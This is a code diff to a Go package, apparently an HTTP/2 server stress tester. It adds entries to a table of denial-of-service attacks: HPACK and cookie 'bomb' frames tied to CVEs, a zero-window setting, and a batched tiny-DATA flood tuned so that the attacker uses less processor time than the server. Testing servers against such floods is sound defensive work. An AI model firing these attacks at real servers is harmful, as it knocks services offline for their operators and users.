@@ -2,6 +2,7 @@ package http2flood
 
 import (
 	"bytes"
+	"encoding/binary"
 	"strings"
 
 	"golang.org/x/net/http2"
@@ -58,6 +59,8 @@ var attacks = []attack{
 		p.note(p.WriteContinuation(p.id, false, bytes.Repeat([]byte{0, 1, 'x', 1, 'x'}, 1000)))
 	}},
 	{"HPACK bomb (CVE-2016-6581)", calm, 20, fillTable, func(p *peer) { p.headers(manyOf(0xbe, 16000), true, true) }},
+	{"HTTP/2 bomb (CVE-2026-49975)", calm, 2000, fillCookie, func(p *peer) { p.headers(manyOf(0xbe, 1900), true, true) }},
+	{"HTTP/2 bomb with as many fields as allowed", calm, 2000, fillCookie, func(p *peer) { p.headers(manyOf(0xbe, 250), true, true) }},
 	{"table size update beyond the limit", http2.ErrCodeCompression, 10, nil, func(p *peer) {
 		p.headers(hpackInt(0x20, 5, 4097), true, true)
 	}},
@@ -105,8 +108,19 @@ func posts(path string, fields ...string) func(*peer) {
 	}
 }
 
-// tinyData sends a byte of one of the bodies.
-func tinyData(p *peer) { p.note(p.WriteData(p.id-uint32(p.frames%90)*2, false, []byte("x"))) }
+// tinyData sends a byte of each of the bodies. The frames are the same each time, so that the attacker takes less of the
+// processor than the server.
+func tinyData(p *peer) {
+	if p.batch == nil {
+		for i := range uint32(90) {
+			p.batch = append(p.batch, 0, 0, 1, byte(http2.FrameData), 0)
+			p.batch = append(binary.BigEndian.AppendUint32(p.batch, p.id-2*i), 'x')
+		}
+	}
+	_, err := p.out.Write(p.batch)
+	p.note(err)
+	p.frames += 89
+}
 
 // afterRequest returns the frames of a request that takes a while, and of an error on its stream.
 func afterRequest(write func(*peer) error) func(*peer) {
@@ -123,6 +137,12 @@ func openBlock(p *peer) { p.headers(p.encode("GET", "/"), true, false) }
 
 // fillTable fills the table of the server's decoder with one large field.
 func fillTable(p *peer) { p.open("GET", "/", true, "x", strings.Repeat("x", 4000)) }
+
+// fillCookie puts a small cookie into the table of the server's decoder, and opens no window for responses.
+func fillCookie(p *peer) {
+	p.note(p.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}))
+	p.open("GET", "/", true, "cookie", "a=b")
+}
 
 // manyOf returns the head of a request with a byte n times at its end.
 func manyOf(b byte, n int) []byte {
